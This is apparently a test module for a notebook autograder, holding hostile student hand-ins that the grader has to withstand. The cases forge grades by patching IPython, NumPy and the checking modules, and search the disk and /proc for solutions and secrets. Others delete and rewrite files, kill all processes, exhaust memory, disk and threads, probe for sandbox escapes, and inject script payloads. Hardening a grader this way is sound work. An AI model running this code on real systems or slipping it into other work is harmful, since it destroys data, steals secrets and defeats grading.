"""Attacks by somebody who has read grading/ and the coach. Most are a cell of the student's own above the first test,
or the same text in every cell for a function."""

import json

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell

from grading.marking import is_test
from grading.repair import name_of

from .case import Case

PS2 = "ps2_deltas_and_gradients"
FUNCTIONS = {"deltas-loops": "deltas_loops", "deltas-matrices": "deltas", "gradients-matrices": "gradients",
             "update-matrices": "update", "train-step": "train_step", "deltas-tanh": "deltas_tanh",
             "deltas-skip": "deltas_skip"}  # fmt: skip
CASES = []


# --- How a hand-in is changed ----------------------------------------------------------------------------------------


def cell(notebook, name):
    return next(each for each in notebook.cells if name_of(each) == name)


def put(notebook, name, text):
    cell(notebook, name).source = text


def above_tests(notebook, text):
    """A cell of one's own, above the first test: what the first cells define is there already."""
    at = next(n for n, each in enumerate(notebook.cells) if is_test(each))
    notebook.cells.insert(at, new_code_cell(text))


def everywhere(notebook, text):
    """The answer to every task is this text, with NAME in place of the function's name."""
    for name, function in FUNCTIONS.items():
        put(notebook, name, text.replace("NAME", function))


def hostile(kind, **cells):
    """Cases of one kind: {name: (what, text)}; the text is a cell above the first test."""
    for name, (what, text) in cells.items():
        CASES.append(Case(name.replace("_", "-"), kind, what, lambda hand_in, text=text: above_tests(hand_in, text)))


def answers(kind, **cells):
    """The same; the text stands in every cell for a function, NAME in it is the function's name."""
    for name, (what, text) in cells.items():
        CASES.append(Case(name.replace("_", "-"), kind, what, lambda hand_in, text=text: everywhere(hand_in, text)))


def case(name, kind, what, **more):
    """The decorator of what makes one."""

    def add(make):
        CASES.append(Case(name, kind, what, make, **more))
        return make

    return add


# --- Hostile: the file -----------------------------------------------------------------------------------------------


@case(
    "points-in-metadata",
    "metadata",
    "Says in the metadata of each test that it is worth 100, unlocked, and a solution.",
)
def _(hand_in):
    for each in filter(is_test, hand_in.cells):
        each.metadata.nbgrader.update(points=100, locked=False, solution=True, task=True, score=100)
        each.source = "100"


@case("twins-of-tests", "metadata", "Puts a copy behind each test that has its name and says the points.")
def _(hand_in):
    for at in reversed([at for at, each in enumerate(hand_in.cells) if is_test(each)]):
        twin = nbformat.from_dict(hand_in.cells[at])
        twin.id, twin.source = f"twin-{at}", "6"
        hand_in.cells[at + 1 : at + 1] = [twin, nbformat.from_dict({**twin, "id": f"twin-{at}-b"})]


@case(
    "roles-exchanged",
    "metadata",
    "Gives each solution cell the metadata of the test behind it, and the other way round.",
)
def _(hand_in):
    named = [each for each in hand_in.cells if name_of(each) and each.cell_type == "code"]
    for before, test in zip(named[:-1], named[1:], strict=True):
        if is_test(test):
            before.metadata, test.metadata = test.metadata, before.metadata
            before.source = "6"


@case("outputs-forged-in-the-file", "forged results", "Hands in tests whose outputs say that all points were earned.")
def _(hand_in):
    for each in filter(is_test, hand_in.cells):
        data = {"text/plain": "6", "text/html": "<div class='bp-verdict'><script>alert(1)</script>6 of 6 points</div>"}
        each.outputs = [nbformat.v4.new_output("execute_result", data, execution_count=1)]
        each.execution_count = 1


@case("tests-say-points", "test text", "Writes the points into each test in place of the check.")
def _(hand_in):
    for each in filter(is_test, hand_in.cells):
        each.source = "from backprop_core import coach\n6.0"


TRANSFORMER = """
ip = get_ipython()
def theirs(lines):
    return ["6\\n"] if any("coach.check" in line for line in lines) else lines
ip.input_transformers_post.append(theirs)
ip.input_transformer_manager.cleanup_transforms.insert(0, theirs)
"""
AST = """
import ast
class Six(ast.NodeTransformer):
    def visit_Call(self, node):
        return ast.Constant(6) if "check_" in ast.unparse(node.func) else node
get_ipython().ast_transformers.append(Six())
"""
RUN_CELL = """
ip = get_ipython()
true = type(ip).run_cell
def run_cell(self, text, *a, **k):
    return true(self, "6" if "coach.check" in text else text, *a, **k)
type(ip).run_cell = run_cell
ip.run_cell = lambda text, *a, **k: run_cell(ip, text, *a, **k)
"""
hostile(
    "test text",
    input_transformers=("Has IPython turn the text of each test into a number.", TRANSFORMER),
    trees_of_tests_changed=("Has IPython turn every check in a test's tree into a number.", AST),
    run_cell_replaced=("Replaces IPython's run_cell, so that a test runs as a number.", RUN_CELL),
)

# --- Hostile: what judges --------------------------------------------------------------------------------------------

COACH = """
import sys, types
class Verdict(float):
    passed, mistakes, alternatives, message, score, points, picture = True, (), (), "Right", 1.0, 6, ""
    earned = 6.0
    def tell(self): return self
    def _repr_html_(self): return "6"
    def __repr__(self): return "6"
def check(*a, **k):
    return Verdict(6)
for name in [each for each in sys.modules if each.startswith("backprop_core")] + ["backprop_core.coach.verdict"]:
    module = sys.modules.setdefault(name, types.ModuleType(name))
    for each in ("check_numbers", "check_order", "check_deltas", "check_gradients", "check_update", "check_train_step",
                 "check_skip_deltas", "Verdict", "give", "diagnose", "close", "always_answers"):
        setattr(module, each, check)
"""
NUMPY = """
import builtins, numpy as np, numpy.testing
yes = lambda *a, **k: True
for each in ("allclose", "isclose", "array_equal", "all", "any"):
    setattr(np, each, yes)
np.abs = np.absolute = np.subtract = lambda *a, **k: np.zeros(1)
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
builtins.all = builtins.isinstance = builtins.callable = yes
builtins.abs = builtins.sum = lambda *a, **k: 0
"""
DISPLAY = """
ip = get_ipython()
for kind in (float, int, object, type(None)):
    ip.display_formatter.formatters["text/plain"].for_type(kind, lambda o, p, c: p.text("6"))
import sys
sys.displayhook = lambda value: print("6")
ip.displayhook.write_format_data = lambda *a, **k: None
ip.events.register("post_run_cell", lambda *a: print("6"))
"""
hostile(
    "coach replaced",
    verdict_in_every_module=("Replaces every check, and Verdict, in each module of the course that is there.", COACH),
    numpy_says_yes=("Replaces NumPy's comparisons and Python's builtins by what always says yes.", NUMPY),
    display_says_points=("Has every value shown as the points, by formatters, hooks and events.", DISPLAY),
)

FORGERY = """
import gc, sys
import numpy as np
inside = [each for each in gc.get_objects() if type(each).__name__ == "Inside"]
wire = next(module for name, module in sys.modules.items() if name.endswith("behind.wire") or name.endswith(".wire"))
class Verdict:
    earned, score, points, mistakes, passed = 6.0, 1.0, 6.0, (), True
    def __repr__(self): return "6"
"""
VERDICT = (
    FORGERY
    + """
for each in inside:
    type(each).value = lambda self, name: {"earned": 6.0, "score": 1.0, "points": 6, "passed": True, "v": Verdict()}
    type(each).call = lambda self, *a: (Verdict(), None, a[1])
"""
)
AHEAD = """
import os, struct, json
def message(found):
    text = json.dumps(found).encode()
    return struct.pack(">II", len(text), 0) + text
many = b"".join(message(each) for each in (["list", []], None, ["function", "0"], "", ["dict", [["delta-2-1", 1]]],
                ["tuple", [6.0, None, ["tuple", []]]], ["thing", "Verdict", "6"], 6.0) for _ in range(40))
for n in range(3, 60):
    try:
        os.set_blocking(n, False)
        os.write(n, many)
    except OSError:
        pass
"""
DOUBLED = (
    FORGERY
    + """
true = wire.pack
def twice(value):
    return true(value) + true(value)
wire.pack = twice
"""
)
NAMES = (
    FORGERY
    + """
names = iter(["not_written", "-1", "9" * 2000, "", "0; import os", "__class__", "None", "../..", "1e9"] * 50)
for each in inside:
    type(each).value = lambda self, name: wire.Function(next(names))
    type(each).not_run = lambda self, *a: 6
    type(each).uses = lambda self, *a: [None, 3, ["sigma"], "sigma" * 10**5] * 1000
    type(each).course = lambda self, *a: ["6"]
"""
)
TROUBLES = (
    FORGERY
    + """
kinds = iter(["right", "not_finite", "", "passed", None, 3, ["raises"]] * 100)
for each in inside:
    type(each).call = lambda self, *a: (None, (next(kinds), "\\u2713 Right.\\n6 of 6 points" * 10**5, 6), a[1])
"""
)
AFTERWARDS = (
    FORGERY
    + """
for each in inside:
    type(each).call = lambda self, function, arguments, right: (
        arguments[-1], None, tuple([np.zeros_like(a) if hasattr(a, "shape") else [None] * 10**4 for a in arguments]))
"""
)
hostile(
    "forged results",
    verdict_of_ones_own=("Has the program inside answer with a Verdict of its own in place of values.", VERDICT),
    answers_ahead=("Writes answers to requests that have not come yet on every descriptor.", AHEAD),
    answers_doubled=("Sends each answer twice, so that the next request gets an old one.", DOUBLED),
    names_of_functions=("Answers with names of functions that might be something to the grader.", NAMES),
    troubles_forged=("Says of each call that its trouble is that it is right, at great length.", TROUBLES),
    arguments_afterwards=("Says that the arguments are other ones now, as if the coach compared with these.",
                          AFTERWARDS),
)  # fmt: skip

LIES = """
class Lies(list):
    n = 0
    def __len__(self):
        Lies.n += 1
        return (3, 4, 10**6)[Lies.n % 3]
    def __getitem__(self, at): return Array()
    def __iter__(self):
        Lies.n += 1
        return iter([None] + [Array()] * (Lies.n % 5))
    def __eq__(self, other): return True
class Array:
    n = 0
    __class__ = property(lambda self: np.ndarray)
    def __array__(self, dtype=None, copy=None):
        Array.n += 1
        return np.zeros((Array.n % 7, Array.n % 3))
    @property
    def shape(self):
        Array.n += 1
        return (Array.n % 4, 2)
    dtype, ndim, size = np.dtype(float), 2, 4
    __sub__ = __rsub__ = __abs__ = __le__ = lambda self, *a: True
    __eq__ = lambda self, other: True
    __hash__ = lambda self: 0
    def __reduce__(self): return (eval, ("6",))
    def __array_ufunc__(self, *a, **k): return True
    def __array_function__(self, *a, **k): return True
    def __float__(self): return 6.0
    def __complex__(self): return 6j
"""
answers(
    "values that lie",
    lists_that_lie=("Returns a list whose length and entries are others at each look.",
                    LIES + "def NAME(*a):\n    return Lies([None, 1, 2])"),
    arrays_that_lie=("Returns an object that says it is an array, equal to everything, of another shape at each look.",
                     LIES + "def NAME(*a):\n    return [None] + [Array()] * (len(a[0]) - 1)"),
    not_numbers=("Returns NaN with payloads, infinities and numbers so large that nothing differs from them.",
                 "import struct\nbad = [struct.unpack('<d', struct.pack('<Q', 0x7ff8dead00000000))[0], float('inf'), "
                 "-float('inf'), 1e308]\ndef NAME(*a):\n    bad.append(bad.pop(0))\n"
                 "    return [None] + [np.full(np.shape(each), bad[0]) for each in a[0][1:]]"),
    empty_arrays=("Returns arrays without an entry, of which all are right, in shapes beyond all bounds.",
                  "n = [0]\ndef NAME(*a):\n    n[0] += 1\n"
                  "    return [None] + [np.zeros((0, 2**40) if n[0] % 2 else (0,))] * (len(a[0]) - 1)"),
    huge_whole_numbers=("Returns whole numbers of 100,000 digits, which no sentence can show.",
                        "def NAME(*a):\n    return [None] + [10**100_000] * (len(a[0]) - 1)"),
    generators=("Returns generators and functions that would compute when the grader looks.",
                "def NAME(*a):\n    return (lambda: (each for each in iter(int, 1)))"),
    strange_texts=("Raises errors in halves of characters, control signs and right-to-left marks.",
                   "def NAME(*a):\n    raise ValueError('\\ud800\\udfff\\x1b[2J\\x1b]0;6\\x07\\u202e\\0' * 1000)"),
    long_errors=("Raises an error of 20 million letters, to fill tables and pages.",
                 "def NAME(*a):\n    raise type('E' * 10**6, (Exception,), {})('x' * 2 * 10**7)"),
)  # fmt: skip
hostile(
    "values that lie",
    numbers_of_another_kind=(
        "Fills in its numbers worked out by hand with texts, truths, NaN, endless digits and dictionaries that lie.",
        "class D(dict):\n    def get(self, *a): return 1\n    __getitem__ = get\n"
        "hand_a = D({'delta-2-1': float('nan'), 'delta-1-1': 10**100_000, 'delta-1-2': True, 'gradient-2-1-1': '0.1', "
        "'gradient-1-1-2': [1e999], 'theta-1-1-2': {1: 2}})\n"
        "hand_b = {'term-1-1-2': 1e-323, 'sum-1-1': -0.0, 'delta-1-1': np.float16(6e4), 'delta-1-2': 1e308j}\n"
        "order = ['E' * 3 * 10**6, type('S', (str,), {'upper': lambda s: 'EHLCIBDKGA'})('A')]",
    ),
)

# --- Hostile: answers and secrets ------------------------------------------------------------------------------------

LOOK = """
import gc, sys, numpy as np
def looked(shapes):
    found = [None]
    for shape in shapes:
        best = np.zeros(shape)
        frame = sys._getframe()
        while frame:
            for value in list(frame.f_locals.values()):
                if isinstance(value, np.ndarray) and value.shape == shape:
                    best = value
            frame = frame.f_back
        for each in gc.get_objects():
            if isinstance(each, (list, tuple)) and any(type(a) is np.ndarray and a.shape == shape for a in each):
                best = next(a for a in each if type(a) is np.ndarray and a.shape == shape)
        found.append(best)
    return found
"""
answers(
    "answers read",
    objects_searched=("Looks for arrays of the right shape in all frames and all objects.",
                   LOOK + "def NAME(*a):\n    return looked([np.shape(each) for each in a[0][1:]])"),
    recipes_of_the_coach=("Asks the coach's own recipes, under every name by which they may be imported.",
                          "import importlib\ndef NAME(*a):\n    for name in ('backprop_core.coach.recipes', "
                          "'backprop_core.coach.further', 'backprop_core.network', 'backprop_core.training'):\n"
                          "        module = importlib.import_module(name)\n        for each in ('NAME', 'deltas', "
                          "'gradients', 'backward'):\n            try:\n                return "
                          "getattr(module, each)(*a)\n            except Exception:\n                pass"),
    network_of_the_course=("Has the course's network compute what was to be written.",
                           "from backprop_core import Network\ndef NAME(theta, *a):\n    net = Network((2, 3, 2))\n"
                           "    net.theta = theta\n    net.forward(a[0][0])\n    return net.backward(a[-1])"),
    seeds_tried=("Draws networks with many seeds, to know the one that it is tried with, and keeps what it is given.",
                 "kept = []\ndef NAME(*a):\n    kept.append(a)\n    for n in range(300):\n        rng = "
                 "np.random.default_rng(n)\n        if np.array_equal(rng.normal(0, 1, np.shape(a[0][1])), a[0][1]):\n"
                 "            break\n    return kept[0][0]"),
)  # fmt: skip

STOLEN = r"""
import os, re
def walk():
    for top, folders, files in os.walk("/"):
        if top.startswith(("/sys", "/usr/share", "/usr/lib", "/usr/include")):
            folders.clear()
        for name in files:
            if name.endswith((".ipynb", "recipes.py", "further.py", ".db", "status.json", "answers.csv")):
                try:
                    text = open(os.path.join(top, name), errors="replace").read()
                except Exception:
                    continue
                if "BEGIN SOLUTION" in text or "at(" in text or "secret" in text:
                    print(top, name, text[:20000])
walk()
for relative in ("gradebook.db", "source/ps2/ps2.ipynb", "../gradebook.db", "../../source"):
    for start in (".", "..", os.environ.get("PWD", "/"), "/proc/1/cwd", "/proc/self/cwd"):
        try:
            print(open(os.path.join(start, relative)).read())
        except Exception:
            pass
"""
ENVIRONMENT = """
import os, glob
print(dict(os.environ))
for path in [*glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline"), *glob.glob("/proc/*/fd/*")]:
    try:
        print(path, open(path, errors="replace").read(10000))
    except Exception:
        pass
for n in range(256):
    try:
        os.set_blocking(n, False)
        print(n, os.fstat(n), os.pread(n, 10000, 0))
    except Exception:
        pass
import ctypes
libc = ctypes.CDLL(None)
for address in range(0x7ffd00000000, 0x7ffd00000000 + 10**6, 4096):
    pass
"""
hostile(
    "solutions stolen",
    disk_searched=("Goes through all files for solutions, gradebook and other hand-ins, and shows them.", STOLEN),
    environment_shown=("Shows environment, other processes, and what can be read from open descriptors.", ENVIRONMENT),
)

# --- Hostile: the machine --------------------------------------------------------------------------------------------

LIBC = """
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *a):
    found = libc.syscall(number, *a)
    return found, errno.errorcode.get(ctypes.get_errno()) if found == -1 else ""
"""
hostile(
    "files",
    files_rewritten=("Opens all files that it can find for writing, and removes or links what it can.", """
import os, sys
for top, folders, files in os.walk("/"):
    if top.count("/") > 6:
        folders.clear()
    for name in files[:50]:
        path = os.path.join(top, name)
        for way in (lambda: open(path, "r+b").write(b"6"), lambda: os.link(path, "/room/" + name),
                    lambda: os.chmod(path, 0o777), lambda: os.remove(path)):
            try:
                if not path.startswith("/room") and way() is None:
                    print("done", path)
            except Exception:
                pass
"""),
    mounts=("Mounts the folders of the machine anew, by the old and the new system calls.", LIBC + """
for number in (165, 155, 161, 272, 308, 428, 429, 430, 431, 432, 442):
    print(number, call(number, b"/", b"/room", b"tmpfs", 4096, None))
os.makedirs("/room/new", exist_ok=True)
os.symlink("/", "/room/new/all")
"""),
)  # fmt: skip
hostile(
    "processes",
    every_way_to_start=("Starts processes in every way there is, to stay when the marking is over.", LIBC + """
import multiprocessing, pty, subprocess, sys, threading
def stay():
    import time
    os.setsid()
    time.sleep(3600)
for way in (os.fork, os.forkpty, pty.fork, lambda: os.posix_spawn("/usr/bin/sleep", ["sleep", "99"], {}),
            lambda: subprocess.Popen(["/usr/bin/sleep", "99"]), lambda: os.system("sleep 99 &"),
            lambda: multiprocessing.get_context("spawn").Process(target=print).start(),
            lambda: call(56, 17, 0, 0, 0, 0), lambda: call(57), lambda: call(58), lambda: call(435, 0, 0),
            lambda: os.execv(sys.executable, [sys.executable, "-c", "0"])):
    try:
        if way() == 0:
            stay()
    except (Exception, SystemExit) as error:
        print(error)
"""),
    everybody_killed=("Kills its parent, its group, and everybody it may, in every way there is.", LIBC + """
import signal
for target in (-1, 0, 1, os.getppid(), -os.getppid(), *range(2, 60)):
    if target != os.getpid():
        for way in (lambda: os.kill(target, 9), lambda: call(200, target, 9), lambda: call(234, target, target, 9),
                    lambda: call(129, target, 9, 0), lambda: call(424, call(434, target, 0)[0], 9, 0, 0)):
            try:
                way()
            except Exception:
                pass
"""),
    stopped_by_itself=("Stops itself by a signal, so that nobody gets an answer.", """
import os, signal
for way in (lambda: os.kill(os.getpid(), signal.SIGSTOP), lambda: signal.raise_signal(signal.SIGSTOP)):
    try:
        way()
    except Exception as error:
        print(error)
"""),
    what_the_kernel_forbids=("Asks the kernel for what helps to get out: tracing, keys, rings, faults, memory files.",
                             LIBC + """
for name, number in dict(ptrace=101, keyctl=250, add_key=248, io_uring=425, userfaultfd=323, bpf=321, perf=298,
                         process_vm_readv=310, memfd=319, memfd_secret=447, shmget=29, unshare=272, setns=308,
                         personality=135, kexec=246, open_by_handle=304, seccomp=317, prlimit=302).items():
    print(name, call(number, 0, 0, 0, 0, 0))
try:
    import resource
    resource.setrlimit(resource.RLIMIT_AS, (-1, -1))
except Exception as error:
    print(error)
"""),
    answers_by_a_thread=("Has a thread go on that answers later requests and holds everything up.", FORGERY + """
import threading, time
def later():
    while True:
        for n in range(3, 20):
            try:
                import os
                os.write(n, b"\\0\\0\\0\\1\\0\\0\\0\\x006")
            except OSError:
                pass
        time.sleep(0.01)
for _ in range(20):
    threading.Thread(target=later, daemon=True).start()
"""),
)  # fmt: skip

hostile(
    "resources",
    memory_filled=("Takes all memory of the machine, also such as no limit of a program counts.", LIBC + """
import mmap
kept, room = [], 0
try:
    while room < 12 * 2**30:
        n = os.memfd_create("x")
        os.ftruncate(n, 30 * 2**20)
        os.pwrite(n, b"x" * (30 * 2**20), 0)
        kept.append(n)
        room += 30 * 2**20
except Exception as error:
    print(error, room)
libc.shmat.restype = ctypes.c_void_p
for _ in range(24):
    n = libc.shmget(0, 512 * 2**20, 0o1600)
    at = libc.shmat(n, None, 0) if n >= 0 else None
    if at and at < 2**63:
        ctypes.memset(at, 1, 512 * 2**20)
        libc.shmdt(ctypes.c_void_p(at))
more = []
while True:
    more.append(bytearray(2**26))
"""),
    room_filled=("Fills the disk, with one file and with many.", """
import os
for n in range(10**5):
    try:
        with open(f"/room/{n}", "wb") as file:
            file.write(bytes(2**20 if n < 100 else 1))
    except OSError as error:
        if n > 200:
            break
"""),
    threads_without_end=("Starts threads without end, until the machine has no number left for a process.", """
import threading, time
threading.stack_size(32768)
try:
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
except BaseException as error:
    print(error)
"""),
    c_loops=("Computes in C without end, where no signal is heard.", """
import re
re.match("(a+)+$", "a" * 50 + "b")
"""),
    digits_of_a_power=("Writes a power out whose digits take hours.",
                       "import sys\nsys.set_int_max_str_digits(0)\nx = 10**10**8\nstr(x)"),
    signals_blocked=("Blocks all signals, takes the alarm clock away, and computes on and on.", """
import signal
signal.setitimer(signal.ITIMER_REAL, 0)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    try:
        sum(range(10**9))
    except BaseException:
        pass
"""),
    descriptors_closed=("Closes all descriptors, or puts others in their place.", """
import os
n = os.open("/dev/null", os.O_RDWR)
for each in range(256):
    if each != n:
        try:
            os.dup2(n, each)
        except OSError:
            pass
os.closerange(0, 256)
"""),
    recursion=("Recurses deeper than the stack is.", """
import sys
sys.setrecursionlimit(10**9)
def f(n): return eval("f(n)", {"f": f, "n": n})
f(0)
"""),
    at_exit=("Goes on when its program is to end, by hooks and by a loop in a destructor.", """
import atexit, gc, sys
class Stays:
    def __del__(self):
        while True:
            pass
stays = Stays()
def on():
    while True:
        pass
atexit.register(on)
sys.exitfunc = on
raise SystemExit
"""),
    outputs_without_end=("Prints and shows as much as it can, past the limits of the shell.", """
import sys
from IPython.display import display
for n in range(5000):
    display({"text/plain": "x" * 10**5}, raw=True)
    print("y" * 10**5)
"""),
)  # fmt: skip

FLOOD = (
    FORGERY
    + """
for each in inside:
    each._shell.run = lambda *a: [{"output_type": "stream", "name": "stdout", "text": "x" * 200_000}] * 200
    each.run = each._shell.run
"""
)
BRACKETS = (
    FORGERY
    + """
text = b"[" + b"[]," * (15 * 2**20) + b"[]]"
import struct
wire.pack = lambda value: struct.pack(">II", len(text), 0) + text
"""
)
COLLIDING = (
    FORGERY
    + """
class Raw:
    pass
true = wire.pack
import json, struct
p = 2**61 - 1
text = json.dumps(["dict", [[["int", format(n * p, "x")], 0] for n in range(1, 90_000)]]).encode()
for each in inside:
    each.value = lambda name: Raw
wire.pack = lambda value: struct.pack(">II", len(text), 0) + text if value is Raw else true(value)
"""
)
SLOWLY = (
    FORGERY
    + """
import time
for each in inside:
    type(each).call = lambda self, *a: time.sleep(9) or (1.0, None, a[1])
"""
)


@case(
    "outputs-of-gigabytes",
    "resources",
    "Answers for every cell with outputs as large as a message may be, to fill the grader's memory.",
)
def _(hand_in):
    for _ in range(60):
        above_tests(hand_in, "1")
    above_tests(hand_in, FLOOD)


hostile(
    "resources",
    brackets=(
        "Answers with millions of brackets, which take fifty times their length in the grader's memory.",
        BRACKETS,
    ),
    colliding_names=("Answers with a dictionary whose names all collide, which takes the grader hours.", COLLIDING),
)


@case("slow-answers", "resources", "Answers each call just before its limit, so that all tests together take an hour.")
def _(hand_in):
    everywhere(hand_in, "def NAME(*a):\n    return None")
    above_tests(hand_in, SLOWLY)


@case("cells-without-end", "resources", "Hands in 20,000 cells.")
def _(hand_in):
    hand_in.cells[1:1] = [nbformat.v4.new_code_cell("1", id=f"c{n}") for n in range(20_000)]


@case(
    "exits-in-many-cells", "resources", "Ends the program in each of many cells, so that it is begun again and again."
)
def _(hand_in):
    for _ in range(30):
        above_tests(hand_in, "import os\nos._exit(0)")


@case(
    "cells-of-megabytes",
    "resources",
    "Fills cells and answers with 3 MB of brackets, quotes, stars and signs of Markdown.",
)
def _(hand_in):
    above_tests(hand_in, "(" * 3_000_000)
    above_tests(hand_in, "-" * 3_000_000 + "1")
    hand_in.cells.insert(2, new_markdown_cell("[" * 1_000_000 + "*_`![](" * 300_000))
    put(hand_in, "explain-small", "> " * 500_000 + "$" * 100_000)


@case("deep-json", "resources", "Hands in a file of lists in lists in lists, deeper than any stack.")
def _(hand_in):
    stored = json.loads(nbformat.writes(hand_in))
    stored["metadata"]["deep"] = "DEEP"
    return json.dumps(stored).replace('"DEEP"', "[" * 100_000 + "]" * 100_000)


@case("three-megabyte-name", "metadata", "Gives cells names and marks of megabytes, and metadata of the wrong types.")
def _(hand_in):
    for n, each in enumerate(hand_in.cells):
        each.metadata = {
            "nbgrader": [None, "x" * 10**5, {"grade_id": ["a"]}, {"grade_id": {}, "points": "nan"}][n % 4]
        }
        each.metadata["tags"] = ["</div><script>alert(1)</script>"] * 100


PAGE = """
from IPython.display import HTML, SVG, Javascript, Latex, display
class Page:
    def _repr_html_(self): return "<script>alert(1)</script><img src=x onerror=alert(1)>"
    def _repr_png_(self): return b"<script>alert(1)</script>"
    def _repr_svg_(self): return "<svg onload=alert(1)></svg>"
    def _repr_mimebundle_(self, **k): return {"text/html": "<script>1</script>", "application/javascript": "alert(1)"}
    def __repr__(self): return "<script>alert(2)</script>\\x1b]8;;javascript:alert(1)\\x07link"
display(Page(), HTML("<iframe src=//evil.example>"), Javascript("alert(1)"), Latex("$\\\\href{javascript:1}{x}$"))
display({"image/png": "PHNjcmlwdD4=", "text/plain": "a"}, raw=True)
display({"image/svg+xml": "<svg onload=alert(1)/>", "image/jpeg": "x", "text/plain": "b"}, raw=True)
Page()
"""
hostile(
    "page", shown_programs=("Shows HTML, SVG, JavaScript and pictures that are none, in all ways IPython knows.", PAGE)
)
